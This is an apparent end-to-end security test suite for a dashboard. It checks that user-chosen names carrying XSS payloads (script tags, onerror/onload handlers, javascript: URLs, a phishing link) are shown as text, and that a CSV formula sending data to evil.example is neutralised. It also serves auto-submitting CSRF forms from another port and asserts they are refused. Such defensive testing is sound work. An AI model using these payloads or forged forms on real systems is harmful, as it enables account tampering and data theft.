"""Names chosen by users are text everywhere the dashboard shows them, and cross-site forms change
nothing.

- Runs, an experiment, a study, its bases and its axis values are named with HTML and ``javascript:``
  payloads. The runs list, the run view, compare, the studies list, the study page and the study's
  HTML report are loaded: no element, link, script or event handler from a name exists in the DOM
  (plotly.js renders a subset of HTML in legends and labels), nothing ran, and every response of the
  server carries the Content-Security-Policy. The compare CSV hands a spreadsheet no formula.
- A page served from another port of the same host auto-submits forms to the API with a signed-in
  admin's cookie (SameSite treats every port of a host as one site): refused, nothing changes, and a
  forged login does not switch the browser's account.
"""

from __future__ import annotations

import csv
import http.server
import io
import socketserver
import threading
from collections.abc import Iterator
from typing import Any, ClassVar

import pytest
from playwright.sync_api import Page, Response, expect

from tests.e2e.configs import tiny
from tests.e2e.conftest import Login, screenshot
from tests.e2e.server import PASSWORDS, USERNAMES, Server

pytestmark = [pytest.mark.e2e, pytest.mark.deployments("embedded")]  # the dashboard's own escaping

LINK = '<a href="https://evil.example/phish">Session expired: log in again</a>'
IMG = '<img src=x onerror="window.__xss=1">'
SVG = '"><svg onload="window.__xss=1">'
SCRIPT = "<script>window.__xss=1</script>"
JS = "javascript:window.__xss=1"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
RUN_NAMES = (f"{LINK}{IMG}", f"{FORMULA}{SVG}{JS}")

# what no page may hold: a link, image, frame or script from a name, or an inline event handler
INJECTED = """() => {
  const found = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.getAttributeNames()) {
      if (attr.startsWith('on')) found.push(`${el.tagName} ${attr}`);
    }
  }
  for (const sel of ['a[href*="evil.example"]', 'a[href^="javascript:"]', '[href^="javascript:"]',
                     '[src="x"]', 'svg[onload]', 'iframe', 'object', 'embed']) {
    for (const el of document.querySelectorAll(sel)) found.push(sel);
  }
  for (const el of document.querySelectorAll('script')) {
    // a script of a name (a figure's own script holds the names as JSON text: not one of those)
    if (el.textContent.includes('__xss') && !el.textContent.includes('Plotly.newPlot')) found.push('script');
  }
  if (window.__xss !== undefined) found.push('a payload ran');
  return found;
}"""


def _check(page: Page, where: str) -> None:
    assert page.evaluate(INJECTED) == [], where


@pytest.fixture(scope="module")
def named(server: Server) -> dict[str, Any]:
    """Runs, an experiment and a study named with payloads, finished."""
    with server.client() as client:
        config = tiny(rounds=3, executor="analytic")
        experiment = client.post(
            "/api/experiments", json={"name": f"{SCRIPT}{LINK}", "config": {**config, "name": SVG}}
        ).raise_for_status()
        runs = [server.launch(config, name=name) for name in RUN_NAMES]
        from_experiment = client.post("/api/runs", json={"experiment_id": experiment.json()["id"]})
        runs.append(from_experiment.raise_for_status().json()["id"])  # named after the experiment
        base = tiny(rounds=1, executor="analytic")
        study = client.post(
            "/api/studies",
            json={
                "name": f"study {LINK}{IMG}",
                "bases": [
                    {"name": f"{LINK}", "config": base},
                    {"name": f"{FORMULA}{SCRIPT}", "config": base},
                ],
                "axes": [{"field": "name", "values": [IMG, JS]}, {"field": "scheduler.V", "values": [1, 10]}],
            },
        )
        assert study.status_code == 201, study.text
    for run_id in runs:
        server.wait_for_run(run_id, ("succeeded",))
    study_id: int = study.json()["id"]
    with server.client() as client:
        for run in client.get("/api/runs", params={"limit": 100}).raise_for_status().json()["items"]:
            if run["name"].startswith("study"):
                server.wait_for_run(run["id"], ("succeeded",), timeout_s=120)
    return {"runs": runs, "study": study_id, "experiment": experiment.json()["id"]}


def test_names_are_text_on_every_page_and_in_the_report(
    login: Login, server: Server, named: dict[str, Any]
) -> None:
    page = login("viewer")
    responses: list[Response] = []
    page.on("response", lambda response: responses.append(response))
    first, second, third = named["runs"]

    page.goto(f"{server.url}/#/runs")
    expect(page.locator(f"tr[data-run-id='{first}']")).to_contain_text("Session expired")
    _check(page, "runs list")

    page.goto(f"{server.url}/#/runs/{second}")
    expect(page.locator("[data-ready='true']")).to_be_attached()
    expect(page.locator("h1")).to_contain_text("=HYPERLINK")
    _check(page, "run view")

    page.goto(f"{server.url}/#/runs/{third}")
    expect(page.locator("[data-ready='true']")).to_be_attached()
    expect(page.locator("h1")).to_contain_text("<script>")
    _check(page, "run view of a run named after its experiment")

    page.goto(f"{server.url}/#/compare?ids={first},{second}&baseline={first}")
    page.wait_for_function(
        "() => document.querySelector(\"[data-chart='compare-latency_s']\")?.data?.length === 2"
    )
    legend = page.locator("[data-chart='compare-latency_s'] .legendtext").first
    expect(legend).to_contain_text('<a href="https://evil.example/phish">')  # shown as text
    _check(page, "compare")
    with page.expect_download() as download:
        page.get_by_role("button", name="Export CSV").click()
    rows = list(csv.DictReader(io.StringIO(download.value.path().read_text(), newline="")))
    assert [r["name"] for r in rows] == [RUN_NAMES[0], "'" + RUN_NAMES[1]]

    page.goto(f"{server.url}/#/studies")
    expect(page.locator(f"tr[data-study-id='{named['study']}']")).to_contain_text("Session expired")
    _check(page, "studies list")

    page.goto(f"{server.url}/#/studies/{named['study']}")
    expect(page.locator("#study-page[data-ready='true']")).to_be_attached()
    expect(page.locator("#study-plot")).to_have_attribute("data-points", "8")
    expect(page.locator("#study-series-plot")).to_have_attribute("data-traces", "8")
    _check(page, "study page")
    screenshot(page, "hostile-names-study")

    href = page.locator("a[data-export='html']").get_attribute("href")
    report = page.request.get(f"{server.url}{href}")
    assert report.ok
    assert "frame-ancestors 'none'" in report.headers["content-security-policy"]
    opened = page.context.new_page()
    opened.set_content(report.text())  # as opened from a file (plotly.js is inlined)
    expect(opened.locator(".js-plotly-plot").first).to_be_visible()
    expect(opened.locator(".legendtext").first).to_contain_text("<a href=")
    _check(opened, "HTML report")
    opened.close()

    served = [r for r in responses if r.url.startswith(server.url)]
    assert served and all("content-security-policy" in r.headers for r in served), [
        r.url for r in served if "content-security-policy" not in r.headers
    ]


class _AttackerPage(http.server.BaseHTTPRequestHandler):
    """Serves ``pages[path]``: what any other program on the host could serve."""

    pages: ClassVar[dict[str, bytes]] = {}

    def do_GET(self) -> None:
        body = self.pages.get(self.path, b"")
        self.send_response(200 if body else 404)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_args: Any) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[tuple[str, dict[str, bytes]]]:
    with socketserver.TCPServer(("127.0.0.1", 0), _AttackerPage) as httpd:
        thread = threading.Thread(target=httpd.serve_forever, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{httpd.server_address[1]}", _AttackerPage.pages
        finally:
            httpd.shutdown()


def _auto_post(action: str, fields: dict[str, str] | None = None) -> bytes:
    inputs = "".join(f'<input name="{k}" value="{v}">' for k, v in (fields or {}).items())
    return (
        f'<form id="f" method="POST" action="{action}">{inputs}</form>'
        '<script>document.getElementById("f").submit()</script>'
    ).encode()


def test_forms_from_another_port_of_the_host_change_nothing(
    login: Login, server: Server, attacker: tuple[str, dict[str, bytes]]
) -> None:
    origin, pages = attacker
    with server.client() as client:
        victim = client.post(
            "/api/users", json={"username": "csrf-victim", "password": "victim-password-1", "role": "viewer"}
        ).raise_for_status()
        run_id = server.launch(tiny(rounds=200, executor="analytic"), name="csrf target")
    victim_id = victim.json()["id"]
    pages["/deactivate.html"] = _auto_post(f"{server.url}/api/users/{victim_id}/deactivate")
    pages["/cancel.html"] = _auto_post(f"{server.url}/api/runs/{run_id}/cancel")
    pages["/login.html"] = _auto_post(
        f"{server.url}/api/auth/login", {"username": USERNAMES["viewer"], "password": PASSWORDS["viewer"]}
    )
    page = login("admin")
    api = f"{server.url}/api/"

    def forged(response: Response) -> bool:  # not one of the dashboard's own requests still on their way
        return response.request.method == "POST" and response.url.startswith(api)

    for name in ("deactivate", "cancel", "login"):
        with page.expect_response(forged) as answer:
            page.goto(f"{origin}/{name}.html")
        assert answer.value.status == 403, (name, answer.value.url, answer.value.status)
    with server.client() as client:
        assert client.get(f"/api/users/{victim_id}").raise_for_status().json()["active"] is True
        run = client.get(f"/api/runs/{run_id}").raise_for_status().json()
        assert run["status"] in ("queued", "running", "succeeded") and not run["cancel_requested"]
        client.post(f"/api/runs/{run_id}/cancel")
    page.goto(f"{server.url}/")
    expect(page.locator("#user-name")).to_have_text(USERNAMES["admin"])  # still the admin's session
